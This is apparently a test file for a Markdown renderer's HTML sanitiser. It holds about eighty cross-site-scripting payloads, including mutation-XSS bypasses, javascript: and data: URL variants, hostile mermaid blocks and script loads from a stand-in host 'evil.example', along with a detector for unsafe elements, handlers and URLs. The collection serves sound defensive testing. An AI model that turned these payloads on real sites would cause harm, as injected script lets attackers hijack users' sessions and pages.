import type { Root } from 'hast';
import { select } from 'hast-util-select';
import { toString } from 'hast-util-to-string';
import { visit } from 'unist-util-visit';
import { renderBody } from '../__testUtils__/renderBody';

const SAFE_URL = /^(?:https?:|mailto:|tel:|#|[^:]*$|[^:]*[/?#])/i;
const SAFE_ELEMENTS =
  'p br hr b i em strong small s del ins u mark sub sup q cite abbr dfn kbd samp var span time wbr bdo ruby rt rp h1 h2 h3 h4 h5 h6 blockquote div section figure figcaption pre code ul ol li dl dt dd details summary a img input table caption colgroup col thead tbody tfoot tr th td svg g defs marker polygon polyline line rect circle ellipse path text tspan';

/** Everything in a parsed page that could act, as sentences. */
function threats(body: Root): string[] {
  const found: string[] = [];
  visit(body, node => {
    if (node.type === 'comment') found.push('comment');
    if (node.type !== 'element') return;
    if (!SAFE_ELEMENTS.split(' ').includes(node.tagName)) {
      found.push(`element ${node.tagName}`);
    }
    for (const [name, value] of Object.entries(node.properties)) {
      const text = String(value);
      if (/^on/i.test(name)) found.push(`handler ${name}`);
      if (/^(style|srcDoc|srcSet|form|formAction|action)$/i.test(name)) {
        found.push(`attribute ${name}`);
      }
      if (/^(href|src|xLinkHref|cite|poster|background)$/i.test(name)) {
        if (!SAFE_URL.test(text)) found.push(`url ${text}`);
      }
      if (/^data(?!Footnote)/.test(name)) found.push(`attribute ${name}`);
      if (/url\((?!#)|expression|javascript:/i.test(text)) {
        if (name !== 'title' && name !== 'ariaLabel' && name !== 'alt') {
          found.push(`value ${text}`);
        }
      }
    }
  });
  return found;
}

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img/src="x"/onerror=alert(1)//',
  '<img srcset="javascript:alert(1) 1x" src=x>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<title><a href="</title><img src=x onerror=alert(1)>">x</a></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- <img src=--><img src=x onerror=alert(1)>//-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/main.aaaaaaaa.min.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;inset:0" onclick="alert(1)">x</p>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<input type=text autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<html><head><script>alert(1)</script></head></html>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href=" \x01javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a target=_blank ping="https://evil.example" href="https://a.example">x</a>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](https://a.example "onclick=alert(1)" )',
  '# <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n|-|\n| <svg/onload=alert(1)> |',
  '!!! note "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
  '!!! note "x]{onclick=alert(1) style=x}"\n    y',
  ':::note[x]{onclick="alert(1)" style="x" id="__drawer"}\ny\n:::',
  ':::script\nalert(1)\n:::',
  '??? note "<svg onload=alert(1)>"\n    y',
  '[^x]: <script>alert(1)</script>\n\ny[^x]',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```mermaid\nflowchart LR\nA["<img src=x onerror=alert(1)>"] --> B\nclick A "javascript:alert(1)"\n```',
  '```mermaid\nflowchart LR\nA --> B\nstyle A fill:url(javascript:alert(1)),stroke:expression(1)\n```',
  '```mermaid\nflowchart LR\nA["</text><script>alert(1)</script>"] --> B\n```',
  '```mermaid\nsequenceDiagram\nA->>B: </text></svg><script>alert(1)</script>\n```',
  '```mermaid\nerDiagram\nA ||--o{ B : "<svg onload=alert(1)>"\n```',
  '```mermaid\n<script>alert(1)</script>\n```',
];

describe('hostile Markdown', () => {
  it.each(payloads)('neutralises %j', payload => {
    expect(threats(renderBody(`before\n\n${payload}\n\nafter`))).toEqual([]);
    expect(threats(renderBody(payload))).toEqual([]);
  });

  it('would notice what it looks for', () => {
    const bad: Root = {
      type: 'root',
      children: [
        {
          type: 'element',
          tagName: 'a',
          properties: { href: 'vbscript:alert(1)', onClick: 'x' },
          children: [],
        },
      ],
    };
    expect(threats(bad)).toContain('handler onClick');
    expect(threats(bad)).toContain('url vbscript:alert(1)');
  });

  it('keeps the text around and inside harmless elements', () => {
    const body = renderBody('a <blink>b</blink> <script>c</script> d');
    expect(toString(body)).toContain('a b  d');
    expect(toString(body)).not.toContain('c');
  });

  it('prefixes ids and refuses classes and data that the reader looks up', () => {
    const body = renderBody(
      '<div id="__drawer" class="md-header md-content" data-md-component="content">x</div><a name="y" id="toggle-sidebar">y</a>',
    );
    const div = select('div', body);
    expect(div?.properties).toEqual({
      id: 'user-content-__drawer',
      className: [],
    });
    const link = select('a[id=user-content-toggle-sidebar]', body);
    expect(link?.properties.name).toBeUndefined();
  });
});
